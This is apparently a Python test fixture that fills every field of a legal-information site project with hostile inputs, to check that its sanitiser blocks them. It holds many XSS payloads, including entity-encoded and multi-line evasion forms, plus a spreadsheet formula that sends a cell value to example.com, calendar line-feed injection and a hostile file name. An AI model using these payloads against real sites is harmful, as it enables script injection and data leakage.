"""A project whose every content field carries hostile payloads, for tests/security.

Each payload that would act calls pwn() (defined by the test before any page script), opens a
dialog or navigates to /pwned/; none must. Each field gets the payload after a label of its own
(标题甲, 简称乙 …), so a test can find where a text shows.
"""

from __future__ import annotations

import datetime as dt
import json

# One string, every trick: closing <title>, script, event handlers, attribute breaking with " and ',
# meta refresh, javascript:/data: URLs as HTML and Markdown, attr_list, the site's own classes,
# ids and hooks (a kiosk overlay, the search box), Jinja, Markdown emphasis and a character reference.
PAYLOAD = (
    "</title><script>pwn('script')</script><img src=x onerror=\"pwn('img')\">"
    "\"><svg onload=pwn('svg')>'><b onmouseover='pwn(1)'>"
    '<meta http-equiv="refresh" content="0;url=/pwned/">'
    "[链接](javascript:pwn('md-link')){: onclick=\"pwn('attr')\" .pufa-kiosk-bar #__search }"
    '<a href="javascript:pwn(\'a\')">a</a><a href="data:text/html,<script>pwn(1)</script>">d</a>'
    '<div class="pufa-dialog md-dialog" data-pufa-idle id="__drawer">遮罩</div>'
    "{{ config.site_name }}{% if true %}J{% endif %} *强* _下_ `码` &amp; \\ |"
)

# What every hostile text field shows: the label, then the payload exactly as written.
def text(label: str) -> str:
    return label + PAYLOAD


def y(value) -> str:
    """A YAML scalar or list written as JSON (JSON is YAML): no quoting mistakes."""
    return json.dumps(value, ensure_ascii=False)


# Bodies: `pufa check` refuses the plain forms (script, on…=, javascript:, reserved hooks on one
# line), so the bodies carry the forms it does not see; the sanitiser must remove them.
BODY_TRICKS = """\
<img src="x"
onerror="pwn('multiline')">

<a href="jav&#x61;script:pwn('entity')">实体编码的链接</a>

[实体编码的 Markdown 链接](&#106;avascript:pwn('md-entity'))

<div
class="pufa-kiosk-bar md-overlay" data-pufa-idle>整屏遮罩</div>

<span
id="__search">假的搜索框</span>

{{ config.site_name }} {% raw %}模板{% endraw %}

<details open
ontoggle="pwn('toggle')"><summary>展开</summary>内容</details>

## 目录标签 {: data-toc-label="&lt;img src=x onerror=pwn('toc')&gt;" }

<img src=x
onerror=pwn('setext')>
---

[写信给我们](mailto:help@example.gov.cn?subject=%22%3E%3Cimg%20src%3Dx%20onerror%3Dpwn('mail')%3E)
[订阅日历文件](../../../calendar/pufa.ics?a=%22%3E%3Csvg%20onload%3Dpwn('ics')%3E)
"""

TOPIC = text("专题甲")
TOPIC_2 = text("专题乙")
# Law names and legal departments also name a page's address (a folder): the whole payload would
# pass `pufa check` and then stop the build with a file name too long for the file system (left to
# the checks that bound what passes), so these fields carry a shorter payload.
SHORT_PAYLOAD = "</title><script>pwn('s')</script><img src=x onerror=\"pwn('i')\">'{: .pufa-kiosk-bar }"
LAW = "中华人民共和国法律援助法" + SHORT_PAYLOAD
STATUTE_LAW = "中华人民共和国测试法" + SHORT_PAYLOAD


# a spreadsheet would run this agency short name (in `pufa report --format csv`) as a formula
SPREADSHEET = '=HYPERLINK("https://example.com/?leak="&A1,"点我")' + PAYLOAD
# line breaks in a calendar text that try to start a property and an event of their own (a line
# feed: `pufa check` refuses a carriage return, and iCalendar readers accept bare line feeds too)
CALENDAR_NEWLINE = "说明\nX-PWNED:1\nBEGIN:VEVENT\nSUMMARY:pwned\nEND:VEVENT"

# passes the URL check (https?://, no spaces) and tries to leave the link
WEBSITE = 'https://example.gov.cn/"><img/src=x/onerror=pwn(1)>'


def agency(short: str, parent: str | None = None) -> str:
    lines = [
        f"name: {y(text('全称' + short))}",
        f"short_name: {y(SPREADSHEET if parent else text('简称' + short))}",
        "level: 中央" if parent is None else "level: 省级",
        f"description: {y(text('职能' + short))}",
        f"website: {y(WEBSITE)}",
        "responsibilities:",
        "  - id: r1",
        f"    title: {y(text('责任事项' + short))}",
        f"    laws: {y([LAW])}",
        f"    measures: {y(text('措施' + short))}",
        "plan:",
        "  - id: p2026-01",
        f"    title: {y(text('计划' + short))}",
        "    kind: 解读",
        "    due: 2026-06-30",
    ]
    if parent:
        lines.insert(3, f"parent: {parent}")
    else:  # a parent agency outside the site: name and address as written
        lines.insert(3, f"parent_name: {y(text('上级甲'))}")
        lines.insert(4, f"parent_website: {y(WEBSITE)}")
    return "\n".join(lines) + "\n"


def explainer(label: str, status: str = "已发布") -> str:
    # open on any build day, within the one-year bound the check puts on comment dates
    closes = dt.date.today() + dt.timedelta(days=300)
    comment = (f"comment_opens: 2026-01-01\ncomment_closes: {closes.isoformat()}\n"
               f"comment_how: {y(text('意见方式' + label))}\n") if status == "征求意见" else ""
    return f"""\
---
title: {y(text('标题' + label))}
summary: {y(text('摘要' + label))}
law: {y(LAW)}
articles: [31]
law_promulgated: 2021-08-20
law_effective: 2022-01-01
topics: {y([TOPIC, TOPIC_2])}
audience: {y([text('对象' + label)])}
rights: {y([text('权利' + label)])}
obligations: {y([text('义务' + label)])}
remedies: {y([text('救济' + label)])}
status: {status}
{comment}published: 2026-03-01
reviewed: 2026-03-01
plan_item: p2026-01
---

## 正文{label}

{BODY_TRICKS}
"""


CASE = f"""\
---
title: {y(text('案例标题'))}
summary: {y(text('案例摘要'))}
court: {y(text('法院'))}
case_number: {y(text('案号'))}
decided: 2024-05-10
kind: 民事
keywords: {y([text('关键词')])}
laws:
  - law: {y(LAW)}
    articles: [31]
origin: {y(text('来源'))}
topics: {y([TOPIC])}
published: 2026-04-01
---

## 基本案情

{BODY_TRICKS}

## 裁判结果

判决。

## 释法说理

说理。

## 普法提示

提示。
"""

STATUTE = f"""\
---
title: {y(STATUTE_LAW)}
short_names: {y([text('测试法简称')])}
issuer: {y(text('制定机关'))}
promulgated: 2020-01-01
effective: 2020-06-01
history:
  - date: 2020-01-01
    event: {y(text('沿革事项'))}
category: {y('法律部门' + SHORT_PAYLOAD)}
source: {y(text('导入来源'))}
---

第一条 本法条文。<script>pwn('statute-script')</script><img src=x onerror="pwn('statute-img')">

第二条 <div class="pufa-kiosk-bar" data-pufa-idle id="__search">遮罩</div>[链接](javascript:pwn('statute-link'))
"""

CALENDAR = f"""\
observances:
  - id: hostile-day
    name: {y(text('纪念日'))}
    rule: 固定日期
    date: 12-04
    basis: {y(text('设立依据'))}
    organiser: {y(text('组织者'))}
    agencies: [moj]
    laws: {y([LAW])}
    description: {y(text('纪念日说明'))}
events:
  - id: hostile-event
    title: {y(text('活动'))}
    agency: moj
    start: 2026-12-04
    end: 2026-12-05
    time: 09:30-11:30
    place: {y(text('地点'))}
    observance: hostile-day
    explainers: [moj/hostile]
    cases: [moj/hostile-case]
    description: {y(CALENDAR_NEWLINE + PAYLOAD)}
"""

TOPICS = f"""\
- id: hostile
  name: {y(TOPIC)}
  description: {y(text('专题说明甲'))}
- id: hostile-2
  name: {y(TOPIC_2)}
"""

MKDOCS_YML = """\
site_name: 测试站点
site_url: http://127.0.0.1/
repo_url: https://git.example.gov.cn/pufa/site
edit_uri: edit/main/docs/
theme:  # as the repository's mkdocs.yml, so the CSP's hashes of Material's inline scripts fit
  name: material
  language: zh
  font: false
  features:
    - navigation.tabs
    - navigation.indexes
    - navigation.top
    - navigation.footer
    - content.action.edit
    - toc.follow
  palette:
    scheme: default
    primary: custom
    accent: custom
extra:
  generator: false
  scope: /
  government: GOVERNMENT
plugins:
  - pufa/content
  - pufa/search
  - pufa/kiosk
  - pufa/calendar:
      first_year: 2026
  - pufa/feeds
markdown_extensions:
  - toc:
      permalink: true
"""


# the government footer's texts come from mkdocs.yml, which editors may change too
GOVERNMENT = {"sponsor": text("主办甲"), "organizer": text("承办乙"), "contact": text("联系丙"),
              "icp": text("京ICP备丁"), "police": text("公网安备戊"), "site_code": text("标识码己")}
MKDOCS_YML = MKDOCS_YML.replace("GOVERNMENT", y(GOVERNMENT)) + f"copyright: {y(text('版权庚'))}\n"


def files() -> dict[str, str]:
    """The hostile project: two agencies, explainers (published and open for comment), a case,
    a statute (its file name hostile too), topics and a calendar."""
    return {
        "mkdocs.yml": MKDOCS_YML,
        "docs/index.md": "# 首页\n\n<!-- pufa:latest -->\n\n<!-- pufa:topics -->\n\n<!-- pufa:agencies -->\n\n"
                         "<!-- pufa:consultations -->\n\n<!-- pufa:calendar -->\n",
        "content/topics.yml": TOPICS,
        "content/calendar.yml": CALENDAR,
        "content/agencies/moj.yml": agency("甲"),
        "content/agencies/zj-sft.yml": agency("乙", parent="moj"),
        "content/laws/moj/hostile.md": explainer("甲"),
        "content/laws/zj-sft/hostile-comment.md": explainer("乙", status="征求意见"),
        "content/cases/moj/hostile-case.md": CASE,
        "content/statutes/\"><img src=x onerror=pwn('file')>.md": STATUTE,
    }
